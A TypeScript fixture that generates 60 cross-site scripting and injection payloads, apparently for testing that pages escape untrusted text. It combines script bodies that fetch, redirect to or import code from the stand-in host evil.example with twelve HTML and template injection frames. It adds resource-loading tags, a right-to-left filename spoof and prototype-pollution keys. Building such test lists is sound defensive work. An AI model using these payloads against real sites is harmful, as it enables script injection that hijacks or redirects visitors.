/** Texts that would run a script, leave their place or load something if a page took them for more than text. */
const scripts = [
  "alert(1)",
  "fetch('//evil.example')",
  "document.location='//evil.example'",
  "import('//evil.example/x.js')",
] as const;

const frames: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<img src=x onerror="${script}">`,
  (script) => `<svg onload="${script}"></svg>`,
  (script) => `"><body onload="${script}">`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `'-${script}-'`,
  (script) => `{{constructor.constructor("${script}")()}}`,
  (script) => `\u0000<details open ontoggle="${script}">`,
  (script) => `<math><mtext><style><img src=x onerror="${script}"></style></mtext></math>`,
  (script) => `]]><script>${script}</script>`,
  (script) => `<template><script>${script}</script></template>`,
];

const others = [
  "<style>*{background:url(//evil.example/a)}</style>",
  "<link rel=stylesheet href=//evil.example/a.css>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  "<form action=//evil.example><input name=a></form>",
  "<object data=//evil.example></object>",
  "<embed src=//evil.example>",
  "<video src=//evil.example autoplay>",
  "\u202Eexe.fdp\u202C backwards",
  "__proto__",
  "constructor",
  "%3Cscript%3Ealert(1)%3C/script%3E",
] as const;

/** 60 of them. The character 0 cannot be stored, so it is left out. */
export const payloads: readonly string[] = [
  ...frames.flatMap((frame) => scripts.map((script) => frame(script).replaceAll("\u0000", ""))),
  ...others,
];
